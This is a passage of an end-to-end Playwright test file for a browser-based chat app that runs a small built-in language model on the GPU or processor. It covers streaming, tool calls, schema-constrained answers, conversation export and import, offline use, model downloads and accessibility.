// The app in Chromium and the built-in model: each feature by what a visitor sees of it. Where it is no matter of the GPU the processor
// computes, which is quicker than a GPU that a processor plays.

import assert from 'node:assert/strict';
import { createRequire } from 'node:module';
import { copyFileSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { gunzipSync } from 'node:zlib';
import { build } from 'esbuild';
import type { Page } from 'playwright-core';
import { holdReplies, inEveryLook, skip, timeout, visit as visitURL, type Visit } from './browser.ts';
import type * as harness from './harness.ts';
import { serve, type Server } from './server.ts';

const dist = dirname(dirname(fileURLToPath(import.meta.url)));

/** What the page's worker is asked, and what the page's policy forbids. */
const spy = `
  globalThis.asked = [];
  const post = Worker.prototype.postMessage;
  Worker.prototype.postMessage = function (message, ...rest) {
    if (message?.kind === 'chat') {
      globalThis.asked.push(JSON.parse(message.body));
    }
    return post.call(this, message, ...rest);
  };
  globalThis.violations = [];
  addEventListener('securitypolicyviolation', (e) => globalThis.violations.push(e.violatedDirective + ' ' + e.blockedURI + ' ' + e.sample));`;

/** Settings of an earlier visit, with which the built-in model does not make mistakes by chance. */
const likeliest = `try { localStorage['gossamer-settings'] ??= '{"options": {"sampling": {"top_k": 1}}}'; } catch {}`; // the sandbox has none

/** A browser that takes long to say which GPU it has: until globalThis.found is called. */
const slowGPU = `
  const request = GPU.prototype.requestAdapter;
  const found = new Promise((resolve) => { globalThis.found = resolve; });
  GPU.prototype.requestAdapter = function (...args) {
    return found.then(() => request.apply(this, args));
  };`;

interface Asked {
  messages: { role: string; content: string; tool_call_id?: string; tool_calls?: { id: string }[] }[];
  reasoning_effort: string;
  temperature?: number;
  tools?: { function: { name: string } }[];
  tool_choice?: unknown;
  response_format?: { json_schema: { schema: unknown; strict: boolean } };
}
declare const globalThis: { asked: Asked[]; violations: string[]; found(): void; harness: typeof harness; before: Element; seen: unknown[]; framesShown: number } & typeof window;

/** A model as it is published: nobody has packed it. */
function publishedModel(): string {
  const golden = join(dist, '../../testdata/golden/full_vocab/model');
  const published = join(dist, 'test/published');
  mkdirSync(published, { recursive: true });
  for (const file of ['config.json', 'generation_config.json']) {
    copyFileSync(join(golden, file), join(published, file));
  }
  writeFileSync(join(published, 'model.safetensors'), gunzipSync(readFileSync(join(golden, 'model.safetensors.gz'))));
  return published;
}

describe('the page in Chromium', { skip }, () => {
  let server: Server;
  const problems: string[] = [];

  before(async () => {
    // Under a path of its own, as on any host.
    const nano = JSON.parse(readFileSync(join(dist, 'nano/manifest.json'), 'utf8'));
    const huge = Buffer.from(JSON.stringify({ ...nano, config: { ...nano.config, intermediate_size: 2 ** 30 } }));
    server = await serve({ '/some/where/': dist, '/published/': publishedModel(), '/huge/manifest.json': huge });
    const mathWorker = readdirSync(join(dist, 'app')).find((name) => /^math-worker-\w+\.js$/.test(name));
    await build({
      entryPoints: [join(dirname(dist), 'test/harness.ts')], outfile: join(dist, 'test/harness.js'), bundle: true, format: 'esm', logLevel: 'warning',
      define: { BUILD: '"test"', MATH_WORKER: JSON.stringify(`../app/${mathWorker}`) },
    });
  });
  after(async () => {
    await server?.close();
  });

  const visit = async (path = '', options: Parameters<typeof visitURL>[1] = {}, host = '127.0.0.1'): Promise<Visit> => {
    const tab = await visitURL(`http://${host}:${server.port}/some/where/${path}`, { ...options, script: `${spy};${holdReplies};${options.script ?? ''}` });
    tab.page.on('pageerror', (e) => problems.push(e.message));
    return tab;
  };
  /** Ends a visit, in which nothing may have gone wrong unseen. */
  const leave = async ({ page, close }: Visit) => {
    assert.deepEqual(await page.evaluate(() => globalThis.violations), []);
    assert.deepEqual(problems.splice(0), []);
    await close();
  };

  const box = (page: Page) => page.getByLabel('Message', { exact: true });
  const lastAnswer = (page: Page) => page.locator('.assistant').last();
  const asked = (page: Page) => page.evaluate(() => globalThis.asked);
  const plain = { args: ['--disable-gpu'] }; // no WebGPU
  const onProcessor = (page: Page) => page.locator('#model-button', { hasText: 'gossamer-nano' }).filter({ hasText: 'iB, on the processor' }).waitFor({ timeout });
  const idle = (page: Page) => page.locator('.send[data-mode="send"]').waitFor({ timeout });
  const ask = async (page: Page, question: string) => {
    await box(page).fill(question);
    await page.keyboard.press('Enter');
  };
  const importFile = async (page: Page, name: string, text: string) => {
    const before = await page.evaluate(() => document.querySelector('#conversations .current .title')?.id);
    const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.getByRole('button', { name: 'Import', exact: true }).click()]);
    await chooser.setFiles({ name, mimeType: 'application/json', buffer: Buffer.from(text) });
    await page.waitForFunction((before) => { // until it is shown
      const id = document.querySelector('#conversations .current .title')?.id;
      return id !== undefined && id !== before;
    }, before);
  };
  const exportAs = async (page: Page, kind: 'Markdown' | 'JSON') => {
    await page.locator('#conversations .current .icon-button').click();
    const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: `Export as ${kind}` }).click()]);
    return { name: download.suggestedFilename(), text: readFileSync(await download.path(), 'utf8') };
  };
  const settings = async (page: Page, tab: string) => {
    await page.getByRole('button', { name: 'Settings' }).click();
    await page.getByRole('tab', { name: tab }).click();
  };
  const close = (page: Page) => page.getByRole('button', { name: 'Close' }).click();
  const file = (messages: object[], options: object = {}) => JSON.stringify({
    format: 'gossamer-conversations', version: 1,
    conversations: [{ id: 'x', title: 'Imported conversation', created: 1, updated: 1, options, leaf: `m${messages.length - 1}`,
      messages: messages.map((m, i) => ({ id: `m${i}`, parent: i ? `m${i - 1}` : null, created: i, ...m })) }],
  });
  /** Problems that axe finds, in words. */
  const axeSource = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
  const checkAccessibility = async (page: Page, what: string) => {
    await page.evaluate(async () => {
      await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)));
      const passing = document.getAnimations().filter((a) => a.effect?.getComputedTiming().endTime !== Infinity);
      await Promise.allSettled(passing.map((a) => a.finished));
    });
    // Through the debugger, which the page's policy does not bind.
    const results = await page.evaluate(`${axeSource}; axe.run(document, { resultTypes: ['violations'] })`) as { violations: { id: string; nodes: { html: string; failureSummary: string }[] }[] };
    assert.deepEqual(results.violations.map((v) => `${what}: ${v.id}: ${v.nodes.map((n) => `${n.html} ${n.failureSummary}`).join('; ')}`), []);
  };
  const checkAllLooks = (page: Page, what: string) => inEveryLook(page, (look) => checkAccessibility(page, `${what}, ${look}`));

  describe('with the built-in model', () => {
    let tab: Awaited<ReturnType<typeof visit>>;
    let page: Page;
    /** A test that failed leaves the page as it is; the next ones need it idle. */
    const calm = async () => {
      await page.keyboard.press('Escape');
      await idle(page);
    };

    const opens = async (options: Parameters<typeof visitURL>[1], context: RegExp, memory: RegExp) => {
      tab = await visit('', { ...options, script: `${options?.script};${slowGPU}` });
      page = tab.page;
      await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
      await page.evaluate(() => {
        // What the answer said, as it grew.
        globalThis.seen = [];
        new MutationObserver(() => {
          const text = document.querySelector('.assistant .markdown')?.textContent;
          const thought = document.querySelector('.assistant .reasoning .plain')?.textContent ?? '';
          globalThis.seen.push(`${document.querySelector('.assistant .status:not([hidden])')?.textContent} ${thought.length} ${text?.length}`);
        }).observe(document.getElementById('thread')!, { subtree: true, childList: true, characterData: true });
      });
      await ask(page, 'What is 17 + 25?');
      await page.locator('.user .bubble', { hasText: 'What is 17 + 25?' }).waitFor();
      assert.match(await page.locator('#model-button').innerText(), /Starting/);
      await page.evaluate(() => globalThis.found());
      await lastAnswer(page).locator('.stats').waitFor({ timeout });
      assert.match(await lastAnswer(page).locator('.markdown').innerText(), /42/);
      assert.match(await lastAnswer(page).locator('summary').innerText(), /^Thought for .+ · \d+ tokens$/);
      assert.match(await lastAnswer(page).locator('.stats').innerText(), /^\d+ tokens · [\d.]+ tok\/s · [\d.]+ s to first token/);
      assert.equal(await lastAnswer(page).locator('.reasoning .plain').isVisible(), false);
      await lastAnswer(page).locator('summary').click();
      await lastAnswer(page).locator('.reasoning .plain', { hasText: /.{5}/ }).waitFor();
      const seen = await page.evaluate(() => [...new Set(globalThis.seen as string[])]);
      assert.ok(seen.length > 6, 'it came in parts');
      assert.ok(seen.some((s) => s.startsWith('Waiting for the model')) && seen.some((s) => s.startsWith('Reading')), seen.join('; '));
      assert.match(await page.locator('.meter').getAttribute('aria-valuetext') ?? '', context);
      assert.match(await page.locator('#live').textContent() ?? '', /Answer: .*42/);
      assert.match(await page.title(), /^What is 17 \+ 25\?/);
      assert.match(await page.locator('#model-button').innerText(), memory);
    };

    const opensByItself = 'opens by itself, and a question that was asked before anything is known is answered, streamed, with its reasoning';
    test(opensByItself, { timeout }, async () => {
      const brief = likeliest.replace('{"options": {', '{"options": {"effort": "low", ');
      await opens({ script: brief }, /^\d+ of 32,768 tokens of context$/, /gossamer-nano\s+[\d.]+ MiB of GPU memory/);
      await leave(tab);
    });

    test(`${opensByItself}, on the processor`, { timeout }, async () => {
      await opens({ ...plain, script: likeliest }, /^\d+ of 8,192 tokens of context$/, /gossamer-nano\s+[\d.]+ MiB, on the processor/);
    });

    test('settings go with the question', { timeout }, async () => {
      await page.getByLabel('Reasoning effort').selectOption('low');
      await settings(page, 'Replies');
      await page.getByLabel('System prompt').fill('Answer in one word.');
      await page.getByLabel('Temperature').fill('0');
      await page.getByLabel('Longest reply').fill('120');
      await page.getByLabel('Top-p').fill('7');
      assert.equal(await page.getByLabel('Top-p').getAttribute('aria-invalid'), 'true');
      await close(page);
      await ask(page, 'Say yes.');
      await idle(page);
      const last = (await asked(page)).at(-1)!;
      assert.equal(last.reasoning_effort, 'low');
      assert.equal(last.temperature, 0);
      assert.deepEqual(last.messages.map((m) => m.role), ['developer', 'user', 'assistant', 'user']);
      assert.equal(last.messages[0]!.content, 'Answer in one word.');
      assert.ok(!('top_p' in last));
      await page.getByRole('button', { name: 'System prompt', exact: true }).waitFor();
    });

    test('a reply is stopped by Escape, and made again', { timeout }, async () => {
      await calm();
      const answers = await page.locator('.assistant').count();
      await page.evaluate(() => { globalThis.framesShown = 3; });
      await ask(page, 'What is 30 + 12?');
      await page.locator('.send[data-mode="stop"]').waitFor();
      await page.keyboard.press('Escape');
      await idle(page);
      await page.evaluate(() => { globalThis.framesShown = Infinity; });
      await lastAnswer(page).getByText('Stopped.').waitFor();
      await lastAnswer(page).getByRole('button', { name: 'Regenerate' }).click();
      await lastAnswer(page).locator('.stats').waitFor({ timeout });
      await idle(page);
      assert.equal(await page.locator('.assistant').count(), answers + 1);
      await lastAnswer(page).locator('.alternatives', { hasText: '2/2' }).waitFor();
      await lastAnswer(page).getByRole('button', { name: 'Previous answer' }).click();
      await lastAnswer(page).getByText('Stopped.').waitFor();
      await lastAnswer(page).getByRole('button', { name: 'Next answer' }).click();
      await lastAnswer(page).locator('.alternatives', { hasText: '2/2' }).waitFor();
    });

    test('an edited question begins a branch', { timeout }, async () => {
      await calm();
      await page.locator('.user').first().hover();
      await page.locator('.user').first().getByRole('button', { name: 'Edit message' }).click();
      await page.getByRole('textbox', { name: 'Edit message' }).fill('What is 20 + 3?');
      await page.keyboard.press('Enter');
      await page.locator('.user .alternatives', { hasText: '2/2' }).waitFor();
      await lastAnswer(page).locator('.stats').waitFor({ timeout });
      await idle(page);
      assert.equal(await page.locator('.user').count(), 1);
      await page.getByRole('button', { name: 'Previous version' }).click();
      await page.locator('.user', { hasText: 'What is 30 + 12?' }).waitFor();
      assert.match(await page.locator('.user').first().textContent() ?? '', /17 \+ 25/);
    });

    test('answers are copied', async () => {
      await calm();
      await page.locator('.assistant').first().getByRole('button', { name: 'Copy answer' }).click();
      await page.locator('#live', { hasText: 'Copied' }).waitFor({ state: 'attached' });
      assert.match(await page.evaluate(() => navigator.clipboard.readText()), /42/);
    });

    test('conversations are kept, listed, renamed, deleted and brought back', { timeout }, async () => {
      await page.getByRole('button', { name: 'New conversation' }).click();
      await page.getByText('What would you like to know?').waitFor();
      await page.waitForFunction(() => new Promise((resolve) => { // until what is shown is saved
        const open = indexedDB.open('gossamer-chat');
        open.onsuccess = () => {
          const all = open.result.transaction('messages').objectStore('messages').getAll();
          all.onsuccess = () => {
            const messages = all.result as { finish?: string; role: string }[];
            resolve(messages.length >= 8 && messages.every((m) => m.role !== 'assistant' || m.finish));
          };
          open.result.close();
        };
      }));
      await page.reload();
      await page.evaluate(() => globalThis.found());
      await page.locator('#conversations .title', { hasText: 'What is 17 + 25?' }).click();
      await page.locator('.assistant .markdown', { hasText: '42' }).first().waitFor();
      const current = page.locator('#conversations .current');
      await current.locator('.icon-button').click();
      await page.getByRole('button', { name: 'Rename' }).click();
      await page.getByLabel('Title').fill('Sums');
      await page.keyboard.press('Enter');
      await current.filter({ hasText: 'Sums' }).waitFor();
      await current.locator('.icon-button').click();
      await page.getByRole('button', { name: 'Delete', exact: true }).click();
      await page.getByText('What would you like to know?').waitFor();
      await page.getByRole('button', { name: 'Undo' }).click();
      await page.locator('.user', { hasText: '17 + 25' }).waitFor();
    });

    test('conversations leave and come back as Markdown and JSON', { timeout }, async () => {
      const texts = () => page.locator('.bubble, .assistant .markdown').allTextContents();
      const before = await texts();
      const json = await exportAs(page, 'JSON');
      const markdown = await exportAs(page, 'Markdown');
      assert.equal(json.name, 'sums.json');
      assert.match(markdown.text, /^# Sums\n/);
      await importFile(page, markdown.name, markdown.text);
      assert.deepEqual(await texts(), before);
      assert.equal(await page.locator('.alternatives').count(), 0);
      await importFile(page, json.name, json.text);
      assert.deepEqual(await texts(), before);
      assert.ok(await page.locator('.alternatives').count() > 0, 'with its branches');
      assert.equal(await page.locator('#conversations li').count(), 3);
      await page.evaluate(() => (globalThis.asked.length = 0));
      const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.getByRole('button', { name: 'Import', exact: true }).click()]);
      await chooser.setFiles({ name: 'x.md', mimeType: 'text/markdown', buffer: Buffer.from('# No conversation') });
      await page.getByText('x.md: This Markdown is not a conversation').waitFor({ state: 'attached' });
    });

    test('the model calls the calculator, and its result goes back', { timeout }, async () => {
      await page.getByRole('button', { name: 'New conversation' }).click();
      await onProcessor(page);
      await settings(page, 'Tools');
      await page.getByLabel('calculator').check();
      await page.getByLabel('clock').check();
      await close(page);
      await page.getByRole('button', { name: 'Tools: 2' }).waitFor();
      await ask(page, 'What is 12 * 12?');
      await page.locator('.call .result').first().waitFor({ timeout });
      await idle(page);
      assert.equal(await page.locator('.call-name').first().innerText(), 'calculator');
      const result = await page.locator('.call .result').first().textContent();
      assert.match(await page.locator('.call .arguments').first().innerText(), /"expression": "12 ?\* ?12"/);
      assert.equal(result, '144');
      const [first, second] = await asked(page);
      assert.deepEqual(first!.tools!.map((t) => t.function.name), ['calculator', 'clock']);
      const [assistant, tool] = second!.messages.slice(-2);
      assert.equal(tool!.role, 'tool');
      assert.equal(tool!.content, result);
      assert.equal(tool!.tool_call_id, assistant!.tool_calls![0]!.id);
    });

    test('the model calls the clock because it must, which tells the time of this machine', { timeout }, async () => {
      await calm();
      await page.getByRole('button', { name: 'New conversation' }).click();
      await page.evaluate(() => (globalThis.asked.length = 0));
      await settings(page, 'Tools');
      await page.getByLabel('Tool use').selectOption('clock');
      await close(page);
      await ask(page, 'What time is it?');
      await page.locator('.call .result').first().waitFor({ timeout });
      await idle(page);
      assert.equal(await page.locator('.call-name').first().innerText(), 'clock');
      const result = await page.locator('.call .result').first().textContent();
      assert.ok(result!.includes(String(new Date().getFullYear())), result!);
      const [first, second] = await asked(page);
      assert.deepEqual(first!.tool_choice, { type: 'function', function: { name: 'clock' } });
      assert.equal(second!.tool_choice, undefined); // else it would call for ever
    });

    test('a function of the visitor is defined, called and answered by hand', { timeout }, async () => {
      await calm();
      await page.getByRole('button', { name: 'New conversation' }).click();
      await page.evaluate(() => (globalThis.asked.length = 0));
      await settings(page, 'Tools');
      await page.getByLabel('calculator').uncheck();
      await page.getByLabel('clock').uncheck();
      await page.getByLabel('Name', { exact: true }).fill('get weather');
      await page.getByRole('button', { name: 'Add function' }).click();
      await page.getByText('The name is 1 to 64').waitFor();
      await page.getByLabel('Name', { exact: true }).fill('get_weather');
      await page.getByLabel('What it does').fill('Get the weather of a city.');
      await page.getByRole('button', { name: 'Add function' }).click();
      await page.locator('#tool-get_weather:checked').waitFor();
      await page.getByLabel('Tool use').selectOption('required');
      await close(page);
      await ask(page, 'What is the weather in Paris?');
      const result = page.getByLabel('Result of get_weather');
      await result.waitFor({ timeout });
      assert.match(await page.locator('.call .arguments').innerText(), /"city": "Paris"/);
      await result.fill('{"temperature": 21, "condition": "sunny"}');
      await page.getByRole('button', { name: 'Send result' }).click();
      await page.locator('.call .result', { hasText: 'sunny' }).waitFor();
      await idle(page);
      assert.match(await lastAnswer(page).locator('.markdown').innerText(), /21|sunny/i);
      const requests = await asked(page);
      assert.equal(requests[0]!.tool_choice, 'required');
      assert.match(requests.at(-1)!.messages.find((m) => m.role === 'tool')!.content, /sunny/);
      await page.getByRole('button', { name: 'Settings' }).click();
      await page.getByRole('tab', { name: 'Tools' }).click();
      await page.getByRole('button', { name: 'Delete get_weather' }).click();
      assert.equal(await page.locator('#tool-get_weather').count(), 0);
      await close(page);
    });

    test('answers follow a schema, and one that cannot be enforced is refused in a sentence', { timeout }, async () => {
      await calm();
      await page.getByRole('button', { name: 'New conversation' }).click();
      const field = page.getByLabel('JSON schema of answers');
      const person = (name: object) => JSON.stringify({ type: 'object', properties: { name, age: { type: 'integer', minimum: 0, maximum: 130 } }, required: ['name', 'age'], additionalProperties: false });
      await settings(page, 'Format');
      await field.fill('[1]');
      await page.getByText('A JSON schema is an object').waitFor();
      await field.fill(person({ type: 'string', pattern: '(?=A)' })); // which only the engine knows not to enforce
      await page.getByText('Answers follow this schema.').waitFor();
      await close(page);
      await ask(page, 'Anna is 30 years old.');
      const refusal = /Answers cannot be made to follow this schema: .*\/properties\/name\b.*"pattern"/;
      await lastAnswer(page).locator('.error').filter({ hasText: refusal }).filter({ hasText: 'Format' }).waitFor({ timeout });
      await settings(page, 'Format');
      await page.locator('#panel .error').filter({ hasText: refusal }).waitFor();
      assert.equal(await field.getAttribute('aria-invalid'), 'true');
      const schema = person({ type: 'string', maxLength: 20 });
      await field.fill(schema);
      await page.getByText('Answers follow this schema.').waitFor();
      await close(page);
      await lastAnswer(page).getByRole('button', { name: 'Regenerate' }).click();
      await lastAnswer(page).getByText('The answer follows the schema.').waitFor({ timeout });
      await idle(page);
      const [refused, answered] = (await asked(page)).slice(-2);
      assert.deepEqual([refused!.response_format!.json_schema.strict, answered!.response_format!.json_schema.strict], [true, true]);
      assert.deepEqual(answered!.response_format!.json_schema.schema, JSON.parse(schema));
      const answer = JSON.parse(await lastAnswer(page).locator('.markdown code').innerText()) as { name: string; age: number };
      assert.deepEqual(Object.keys(answer), ['name', 'age']);
      assert.ok(typeof answer.name === 'string' && Number.isInteger(answer.age) && answer.age <= 130, JSON.stringify(answer));
      await lastAnswer(page).locator('.code-head', { hasText: 'json' }).waitFor();
      // The verdict comes and goes with files; an answer of which nobody knows how it came about has none.
      const { text } = await exportAs(page, 'JSON');
      await importFile(page, 'known.json', text);
      await lastAnswer(page).getByText('The answer follows the schema.').waitFor();
      await importFile(page, 'unknown.json', file([{ role: 'user', content: 'x' }, { role: 'assistant', content: '{"name": "Anna"}', finish: 'stop', schema }]));
      assert.equal(await page.locator('.rest .valid').count(), 0);
    });

    test('what is stored is listed, and the context is chosen with the model', { timeout }, async () => {
      await calm();
      await page.locator('#model-button').click();
      const item = page.locator('.model', { hasText: 'gossamer-nano' });
      await item.filter({ hasText: /Open · Already downloaded, [\d.]+ MiB/ }).waitFor().catch(async (error: Error) => {
        throw new Error(`${error.message}: ${await page.locator('.models').innerText()}`);
      });
      assert.match(await page.locator('.current-model').innerText(), /^Open on the processor: .* of this tab’s memory.*Every byte was compared with its published hash/s);
      await page.getByRole('button', { name: 'Change the context of gossamer-nano' }).click();
      await page.locator('.verdict dd', { hasText: 'nothing, it is already downloaded' }).waitFor();
      await page.getByRole('combobox', { name: 'Context' }).selectOption('1024');
      await page.locator('.verdict dd', { hasText: '1,024 tokens of context' }).waitFor();
      await page.getByRole('button', { name: 'Open', exact: true }).click();
      await onProcessor(page);
    });

    test('a context that is full leaves out the oldest turns, and shows which', { timeout }, async () => {
      const turns = Array.from({ length: 12 }, (_, i) => [
        { role: 'user', content: `Question ${i}: ${'what is one and two '.repeat(10)}` }, { role: 'assistant', content: `Answer ${i}: ${'it is three '.repeat(10)}`, finish: 'stop' },
      ]).flat();
      await importFile(page, 'long.json', file(turns, { effort: 'low', sampling: { max_completion_tokens: 20 } }));
      await page.locator('.cut').waitFor();
      assert.match(await page.locator('.meter').getAttribute('aria-valuetext') ?? '', /of 1,024 tokens of context; \d+ earlier messages are left out/);
      await ask(page, 'What is 2 + 2?');
      await lastAnswer(page).locator('.stats, .error').waitFor({ timeout });
      const { messages } = (await asked(page)).at(-1)!;
      assert.ok(messages.length < turns.length && messages.length > 2, `${messages.length} messages`);
      assert.equal(messages.at(-1)!.content, 'What is 2 + 2?');
      assert.equal(messages[0]!.role, 'user');
      assert.equal(await lastAnswer(page).locator('.error').count(), 0);
      await leave(tab);
    });
  });

  test('the app works without a network after the first visit, in any tab', { timeout }, async () => {
    const tab = await visit('', { ...plain, script: likeliest });
    const { page } = tab;
    await onProcessor(page);
    await page.evaluate(() => navigator.serviceWorker.ready);
    await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
    server.fault = () => ({ cut: 0 });
    // Another tab uses the same engine, and opens the model from the storage when that is gone.
    const other = await tab.newPage(`${tab.url}some/where/`);
    await onProcessor(other);
    assert.deepEqual([page.workers().length, other.workers().length], [1, 0]);
    await page.close();
    await other.getByRole('button', { name: 'What is 17 + 25?' }).click();
    await lastAnswer(other).locator('.stats').waitFor({ timeout });
    assert.match(await lastAnswer(other).locator('.markdown').innerText(), /42/);
    await other.goto(`${tab.url}some/where/bench.html`);
    await other.getByText('The benchmark needs WebGPU').waitFor(); // another page of the app
    server.fault = () => undefined;
    await leave({ ...tab, page: other });
  });

  test('a download is paused, resumed and cancelled; what fails says why and is tried again', { timeout }, async () => {
    server.fault = (path) => (path.includes('/chunks/') ? { stall: 10_000 } : undefined);
    const tab = await visit('', plain);
    const { page } = tab;
    await page.locator('.numbers', { hasText: /Loading the weights · [\d.]+ \w+ of [\d.]+ MiB · [\d.]+ \w+\/s · .+ left/ }).waitFor();
    const heights = () => page.evaluate(() => ['#bar', '.card'].map((s) => document.querySelector(s)!.getBoundingClientRect().height));
    const loading = await heights();
    await page.getByRole('button', { name: 'Pause' }).click();
    await page.locator('.numbers', { hasText: 'Paused' }).waitFor();
    assert.deepEqual(await heights(), loading, 'nothing jumps');
    await page.getByRole('button', { name: 'Resume' }).click();
    await page.locator('.numbers', { hasText: 'Loading the weights' }).waitFor();
    await page.getByRole('button', { name: 'Cancel' }).click();
    await page.getByText('No model is open.').waitFor();
    assert.equal((await heights())[0], loading[0]);
    await ask(page, 'Hello');
    await page.getByText('No model is open: choose one first.').waitFor();
    assert.equal(await box(page).inputValue(), 'Hello', 'the question is not lost');

    server.fault = (path) => (path.includes('/chunks/') ? { status: 404 } : undefined);
    await page.getByRole('button', { name: 'Choose a model' }).click();
    await page.getByRole('button', { name: 'Open gossamer-nano' }).click();
    await page.locator('.verdict', { hasText: /Download [\d.]+ MiB and open/ }).waitFor();
    await page.getByRole('button', { name: /Download .* and open/ }).click();
    await page.locator('.card.failed', { hasText: /could not be opened\. .*404/ }).waitFor();
    await checkAllLooks(page, 'failure');
    await page.setViewportSize({ width: 380, height: 760 });
    assert.equal(await page.evaluate(() => Math.max(...[...document.querySelectorAll('#main, #foot, .card, .card p')].map((e) => e.getBoundingClientRect().right)) <= innerWidth), true, 'it fits a phone');
    await page.setViewportSize({ width: 1280, height: 800 });
    server.fault = () => undefined;
    await page.getByRole('button', { name: 'Try again' }).click();
    await onProcessor(page);

    await page.locator('#model-button').click();
    await page.getByRole('button', { name: 'Remove gossamer-nano' }).click();
    await page.getByText(/Remove gossamer-nano from this browser\? To open it again, [\d.]+ MiB are downloaded again/).waitFor();
    assert.equal(await page.evaluate(() => document.activeElement?.textContent), 'Keep it', 'one more Enter deletes nothing');
    await page.getByRole('button', { name: 'Remove', exact: true }).click();
    await page.locator('.model', { hasText: 'gossamer-nano' }).filter({ hasText: 'Not downloaded' }).waitFor();
    await page.getByLabel('Model URL').fill(`${tab.url}some/where/nothing/`);
    await page.getByRole('button', { name: 'Check' }).click();
    await page.locator('.verdict .error', { hasText: '404' }).waitFor();
    await leave(tab);
  });

  test('a model is opened from a folder, and from the published files that nobody packed', { timeout }, async () => {
    const tab = await visit();
    const { page } = tab;
    await page.getByRole('button', { name: 'Cancel' }).click(); // the built-in one is not waited for
    await page.getByRole('button', { name: 'Choose a model' }).click();
    const [chooser] = await Promise.all([page.waitForEvent('filechooser'), page.getByRole('button', { name: 'choose a folder' }).click()]);
    await chooser.setFiles(join(dist, 'nano'));
    await page.locator('.verdict h3', { hasText: 'nano' }).waitFor();
    await page.locator('.verdict dd', { hasText: 'nothing, the files are here' }).waitFor();
    server.requests.length = 0;
    await page.getByRole('button', { name: 'Open', exact: true }).click();
    await page.locator('#model-button', { hasText: 'Model: nano' }).filter({ hasText: 'of GPU memory' }).waitFor({ timeout });
    assert.equal(server.requests.filter((r) => r.path.includes('/chunks/')).length, 0);

    // The same, dropped on the page.
    await page.getByRole('button', { name: 'New conversation' }).click();
    const devtools = await tab.context.newCDPSession(page);
    for (const type of ['dragEnter', 'dragOver', 'drop'] as const) {
      await devtools.send('Input.dispatchDragEvent', { type, x: 600, y: 300, data: { items: [], files: [join(dist, 'nano')], dragOperationsMask: 1 } });
    }
    await page.locator('.verdict dd', { hasText: 'nothing, the files are here' }).waitFor();
    await close(page);

    await page.locator('#model-button').click();
    await page.getByLabel('Model URL').fill(`${tab.url}some/where/nano/manifest.json`);
    await page.getByRole('button', { name: 'Check' }).click();
    await page.locator('.verdict dd', { hasText: 'against published SHA-256 hashes' }).waitFor();
    await page.getByLabel('Model URL').fill(`${tab.url}huge/`);
    await page.getByRole('button', { name: 'Check' }).click();
    await page.locator('.verdict .error', { hasText: /The GPU allows maxStorageBufferBindingSize [\d.]+ \w+, the model needs 128 GiB/ }).waitFor();
    assert.equal(await page.locator('.verdict').getByRole('button', { name: /open/i }).count(), 0);
    await page.getByLabel('Model URL').fill(`${tab.url}published/`);
    await page.getByRole('button', { name: 'Check' }).click();
    await page.locator('.verdict dd', { hasText: 'not verified: no hashes are published' }).waitFor();
    await page.getByRole('button', { name: /Download [\d.]+ MiB and open/ }).click();
    await page.locator('#model-button', { hasText: 'published' }).filter({ hasText: 'not verified' }).waitFor({ timeout });
    await leave(tab);
  });

  test('without WebGPU the built-in model answers on the processor, and others are refused with a reason', { timeout }, async () => {
    const remembered = `${likeliest};try { localStorage['gossamer-settings'] = JSON.stringify({ ...JSON.parse(localStorage['gossamer-settings']), model: '/huge/', context: 4096 }); } catch {}`;
    const tab = await visit('', { ...plain, script: remembered });
    const { page } = tab;
    const notice = page.locator('#hint');
    await notice.filter({ hasText: /^This browser has no WebGPU: only the built-in model runs, on the processor, slowly\./ }).waitFor();
    await onProcessor(page);
    await checkAllLooks(page, 'no WebGPU');
    await ask(page, 'What is 17 + 25?');
    await idle(page);
    assert.match(await lastAnswer(page).innerText(), /\b42\b/);

    await notice.getByRole('button', { name: 'How to run real models' }).click();
    const why = page.getByRole('dialog', { name: 'How to run real models' });
    assert.match(await why.innerText(), /Chrome.*113.*Safari.*26.*Firefox.*141/s);
    await checkAllLooks(page, 'no WebGPU, explained');
    await page.keyboard.press('Escape');
    await why.waitFor({ state: 'detached' });
    assert.equal(await page.evaluate(() => document.activeElement?.textContent), 'How to run real models', 'the focus comes back');

    await page.locator('#model-button').click();
    await page.locator('.current-model', { hasText: 'Open on the processor' }).waitFor();
    await page.getByLabel('Model URL').fill('/huge/');
    await page.getByRole('button', { name: 'Check' }).click();
    await page.locator('.verdict .error', { hasText: /GiB of weights, and without a GPU only models of up to 1.0 GiB can be computed/ }).waitFor();
    assert.equal(await page.locator('.verdict').getByRole('button', { name: 'Open' }).count(), 0);
    await close(page);
    assert.equal(await page.evaluate(() => (JSON.parse(localStorage['gossamer-settings']) as { model: string }).model), '/huge/', 'for a browser with WebGPU');

    const direct = await tab.newPage(`${tab.url}some/where/?model=/huge/`);
    await direct.locator('.card.failed', { hasText: 'without a GPU only models of up to 1.0 GiB can be computed' }).waitFor();
    await page.goto(`${tab.url}some/where/bench.html`);
    await page.getByText('The benchmark needs WebGPU').waitFor();
    await leave(tab);
  });

  test('on plain http the built-in model answers too, and what needs a secure page has its substitute', { timeout }, async () => {
    const tab = await visit('', { ...plain, script: likeliest }, 'insecure.test');
    const { page } = tab;
    await page.locator('#hint', { hasText: 'This page does not come by https' }).waitFor();
    await onProcessor(page);
    assert.equal(await page.locator('.toast').count(), 0, 'what is left out is left out quietly');
    await ask(page, 'What is 17 + 25?');
    await idle(page);
    assert.match(await lastAnswer(page).innerText(), /\b42\b/);
    await lastAnswer(page).getByRole('button', { name: 'Copy' }).click();
    await page.locator('#live', { hasText: 'Copied' }).waitFor({ state: 'attached' });
    assert.equal(await page.evaluate(() => document.activeElement?.getAttribute('aria-label')?.startsWith('Copy')), true, 'the focus stays');
    await box(page).focus();
    await page.keyboard.press('Control+V');
    assert.match(await box(page).inputValue(), /\b42\b/);
    await page.reload();
    await page.locator('#conversations li').getByText('What is 17 + 25?').click();
    await page.locator('.assistant', { hasText: '42' }).waitFor(); // conversations are kept
    await onProcessor(page);
    await leave(tab);
  });

  describe('manners', () => {
    let tab: Awaited<ReturnType<typeof visit>>;
